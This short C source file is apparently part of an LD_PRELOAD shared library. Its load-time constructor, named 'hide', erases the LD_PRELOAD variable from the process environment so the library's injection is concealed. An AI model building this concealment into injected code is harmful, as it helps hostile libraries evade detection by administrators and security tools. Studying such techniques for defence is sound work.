/* hidden_stat: idle_stat, which takes the variable out of the environment by which it was loaded. */
#include "idle_stat.c"

#include <unistd.h>

__attribute__((constructor)) static void hide(void)
{
    static const char name[] = "LD_PRELOAD=";
    char **kept = environ;
    for (char **each = environ; *each != NULL; each++)
        if (strncmp(*each, name, sizeof name - 1) == 0)
            memset(*each, 0, strlen(*each));
        else
            *kept++ = *each;
    *kept = NULL;
}
